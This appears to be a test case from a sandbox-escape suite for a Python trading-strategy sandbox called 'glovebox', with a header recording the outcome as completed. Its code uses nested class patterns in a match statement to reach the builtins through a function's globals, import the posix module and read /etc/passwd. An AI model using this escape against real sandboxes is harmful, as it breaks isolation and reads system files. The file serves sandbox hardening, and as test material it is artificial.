# id: L02
# family: language
# goal: walk to a module's importer by nested class patterns alone
# finding: PY102 PY109 PY119
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


def attack(ctx, bar):
    match Strategy.on_bar:
        case object(__globals__={"__builtins__": names}):
            names = names if isinstance(names, dict) else vars(names)
            posix = names["__import__"]("posix")
            return posix.read(posix.open("/etc/passwd", 0), 20)


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
